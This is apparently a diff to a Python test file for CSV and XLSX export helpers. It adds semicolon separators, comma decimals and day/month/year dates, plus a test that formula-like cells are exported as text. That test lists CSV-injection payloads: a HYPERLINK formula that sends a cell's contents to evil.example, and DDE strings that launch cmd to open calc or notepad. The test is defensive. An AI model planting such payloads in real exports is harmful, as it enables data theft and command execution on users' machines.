@@ -351,16 +351,28 @@ def test_csv_round_trips_with_bom_and_accents() -> None:
     })
     data = to_csv(frame)
     assert data.startswith(b"\xef\xbb\xbf")
-    assert b"\r\n" in data
-    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
+    assert b"\r\n" in data and data.decode("utf-8-sig").startswith("Client;Amount;Day")
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", sep=";", decimal=",")
     pd.testing.assert_frame_equal(back, frame, check_dtype=False)
 
 
 def test_csv_money_columns_in_euros() -> None:
     frame = pd.DataFrame({"What": ["a", "b"], "Cents": [123456, -5]})
     back = pd.read_csv(io.BytesIO(to_csv(frame, money_columns=["Cents"])),
-                       encoding="utf-8-sig", dtype=str)
-    assert back["Cents"].tolist() == ["1234.56", "-0.05"]
+                       encoding="utf-8-sig", dtype=str, sep=";")
+    assert back["Cents"].tolist() == ["1234,56", "-0,05"]   # a Belgian Excel reads numbers
+
+
+@pytest.mark.parametrize("payload", [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+])
+def test_csv_cells_that_would_run_as_formulas_are_text(payload: str) -> None:
+    frame = pd.DataFrame({"Subject": [payload, "Plain subject"], "Amount": [-5, 7]})
+    back = pd.read_csv(io.BytesIO(to_csv(frame)), encoding="utf-8-sig", sep=";", dtype=str,
+                       keep_default_na=False)
+    assert back["Subject"].tolist() == ["'" + payload, "Plain subject"]
+    assert back["Amount"].tolist() == ["-5", "7"]          # numbers stay numbers
 
 
 def test_statement_csv_equals_the_frame() -> None:
@@ -369,12 +381,14 @@ def test_statement_csv_equals_the_frame() -> None:
     lb = labels_for("fr")
     assert list(frame.columns)[:3] == [lb.date, lb.kind_column, lb.document]
     back = pd.read_csv(io.BytesIO(statement_csv(st)), encoding="utf-8-sig",
-                       keep_default_na=False)
+                       keep_default_na=False, sep=";", decimal=",")
     expected = frame.copy()
     for column in statement_money_columns("fr"):
         expected[column] = expected[column] / 100
     for column in statement_date_columns("fr"):
-        expected[column] = expected[column].map(date.isoformat)
+        expected[column] = expected[column].map(lambda d: d.strftime("%d/%m/%Y"))
+    # +++…+++ would start a formula in a spreadsheet: it is kept as text.
+    expected = expected.map(lambda v: "'" + v if isinstance(v, str) and v.startswith("+") else v)
     pd.testing.assert_frame_equal(back, expected, check_dtype=False)
     assert back[lb.open].sum() * 100 == pytest.approx(st.total_cents)
 
@@ -450,9 +464,9 @@ def test_exports_take_nullable_cents_and_timestamps() -> None:
         "Disputed": [True, False],
     })
     back = pd.read_csv(io.BytesIO(to_csv(frame, money_columns=["Open"])),
-                       encoding="utf-8-sig", dtype=str, keep_default_na=False)
-    assert back.to_dict("list") == {"Number": ["INV-1", "INV-2"], "Open": ["1234.56", ""],
-                                    "Due": ["2026-11-24", ""],
+                       encoding="utf-8-sig", dtype=str, keep_default_na=False, sep=";")
+    assert back.to_dict("list") == {"Number": ["INV-1", "INV-2"], "Open": ["1234,56", ""],
+                                    "Due": ["24/11/2026", ""],
                                     "Disputed": ["True", "False"]}
     cells, _ = xlsx_sheet(to_xlsx(frame, "Invoices", money_columns=["Open"],
                                   date_columns=["Due"]), 1)
